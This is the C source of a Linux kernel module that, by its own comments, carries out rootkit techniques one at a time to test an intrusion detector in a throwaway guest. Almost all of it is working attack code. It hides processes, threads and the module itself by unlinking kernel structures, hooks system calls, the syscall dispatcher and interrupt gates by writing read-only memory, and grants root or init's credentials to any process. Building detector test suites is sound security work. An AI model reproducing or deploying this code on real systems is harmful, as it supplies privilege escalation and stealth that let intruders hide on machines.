// SPDX-License-Identifier: BSL-1.0 OR GPL-2.0-only
//
// What intruders do to a kernel, one by one, for tests of a detector: in a guest that is thrown away.
//
//     insmod ids_attack.ko lookup=0x$(grep ' kallsyms_lookup_name$' /proc/kallsyms | cut -c 1-16)
//     echo 'task 123' > /sys/module/ids_attack/parameters/attack
//
// task PID    takes a process out of the list of tasks
// number PID  takes a process out of the pid table, so that it is not in /proc
// thread TID  takes a thread out of the list of its process's threads
// call N      leads system call N into this module
// dispatcher  leads the function that chooses system calls through this module
// gate N      leads interrupt N into this module
// root PID    makes a process root, in the credentials that it has
// steal PID   gives a process the credentials of process 1
// module      takes this module out of the list of modules, out of sysfs, and out of the tree of modules' code
#include <linux/cred.h>
#include <linux/kernel.h>
#include <linux/kobject.h>
#include <linux/mm.h>
#include <linux/module.h>
#include <linux/rbtree_latch.h>
#include <linux/rculist.h>
#include <linux/sched.h>
#include <linux/sched/signal.h>
#include <linux/string.h>
#include <linux/version.h>
#include <linux/vmalloc.h>
#include <linux/workqueue.h>
#include <asm/desc_defs.h>

static unsigned long lookup;
module_param(lookup, ulong, 0);

static unsigned long symbol(const char *name)
{
	return ((unsigned long (*)(const char *))lookup)(name);
}

/* Writes what is read-only, by another mapping of its page. */
static int overwrite(unsigned long to, const void *from, size_t n)
{
	struct page *page = pfn_to_page(__pa_symbol(to) >> PAGE_SHIFT);
	char *window;

	if (offset_in_page(to) + n > PAGE_SIZE)
		return -EINVAL;
	window = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
	if (!window)
		return -ENOMEM;
	memcpy(window + offset_in_page(to), from, n);
	vunmap(window);
	return 0;
}

static asmlinkage long stolen_call(const struct pt_regs *registers)
{
	return -ENOSYS;
}

/* Called where the kernel left room for a tracer's call: gives back all registers by touching none. */
void through_here(void);
asm(".pushsection .text; .globl through_here; .type through_here, @function;"
    "through_here: ret; .size through_here, .-through_here; .popsection");

static int take_dispatcher(void)
{
	unsigned long at = symbol("x64_sys_call");
	u8 call[5] = { 0xe8 };
	s32 distance;

	if (!at)
		return -ENOENT;
	/* Behind endbr64, if it begins with that, are five bytes that do nothing. */
	if (*(u32 *)at == 0xfa1e0ff3)
		at += 4;
	if (memcmp((void *)at, "\x0f\x1f\x44\x00\x00", 5))
		return -EOPNOTSUPP;
	distance = (unsigned long)through_here - (at + sizeof(call));
	memcpy(call + 1, &distance, sizeof(distance));
	return overwrite(at, call, sizeof(call));
}

static int take_gate(unsigned int vector)
{
	gate_desc gate;
	unsigned long table = symbol("idt_table");
	unsigned long to = (unsigned long)through_here;

	if (!table || vector > 255)
		return -EINVAL;
	memcpy(&gate, (gate_desc *)table + vector, sizeof(gate));
	gate.offset_low = to;
	gate.offset_middle = to >> 16;
	gate.offset_high = to >> 32;
	return overwrite(table + vector * sizeof(gate), &gate, sizeof(gate));
}

static int attack_task(struct task_struct *task, const char *what)
{
	struct cred *cred = (struct cred *)task->real_cred;

	if (!strcmp(what, "task")) {
		list_del(&task->tasks);
		INIT_LIST_HEAD(&task->tasks);
	} else if (!strcmp(what, "number")) {
		hlist_del_init_rcu(&task->pid_links[PIDTYPE_PID]);
		hlist_del_init_rcu(&task->pid_links[PIDTYPE_TGID]);
	} else if (!strcmp(what, "thread")) {
		list_del_rcu(&task->thread_node);
	} else if (!strcmp(what, "root")) {
		cred->uid = cred->euid = cred->suid = cred->fsuid = GLOBAL_ROOT_UID;
	} else {
		struct task_struct *(*find)(pid_t) = (void *)symbol("find_task_by_vpid");
		struct task_struct *init = find(1);

		rcu_assign_pointer(task->real_cred, get_cred(init->real_cred));
		rcu_assign_pointer(task->cred, get_cred(init->real_cred));
	}
	return 0;
}

/* Not while a file of this module in sysfs is being written: that would wait for itself. */
static void hide_module(struct work_struct *work)
{
	static const struct latch_tree_ops none;
	struct latch_tree_root *tree = (void *)symbol("mod_tree");

	list_del(&THIS_MODULE->list);
	kobject_del(&THIS_MODULE->mkobj.kobj);
#if LINUX_VERSION_CODE >= KERNEL_VERSION(6, 4, 0)
	for_each_mod_mem_type(type) {
		if (THIS_MODULE->mem[type].size)
			latch_tree_erase(&THIS_MODULE->mem[type].mtn.node, tree, &none);
	}
#else
	latch_tree_erase(&THIS_MODULE->core_layout.mtn.node, tree, &none);
#endif
}
static DECLARE_WORK(hiding, hide_module);

static int set_attack(const char *text, const struct kernel_param *parameter)
{
	struct task_struct *(*find)(pid_t) = (void *)symbol("find_task_by_vpid");
	unsigned long table = symbol("sys_call_table");
	unsigned long to = (unsigned long)stolen_call;
	struct task_struct *task;
	unsigned int number = 0;
	char what[16];

	if (sscanf(text, "%15s %u", what, &number) < 1)
		return -EINVAL;
	if (!strcmp(what, "call"))
		return overwrite(table + number * sizeof(to), &to, sizeof(to));
	if (!strcmp(what, "dispatcher"))
		return take_dispatcher();
	if (!strcmp(what, "gate"))
		return take_gate(number);
	if (!strcmp(what, "module")) {
		schedule_work(&hiding);
		return 0;
	}
	rcu_read_lock();
	task = find(number);
	rcu_read_unlock();
	return task ? attack_task(task, what) : -ESRCH;
}

static const struct kernel_param_ops attack_ops = { .set = set_attack };
module_param_cb(attack, &attack_ops, NULL, 0200);

static int __init ids_attack_init(void)
{
	return lookup ? 0 : -EINVAL;
}
module_init(ids_attack_init);
MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("What intruders do, for tests of a detector");
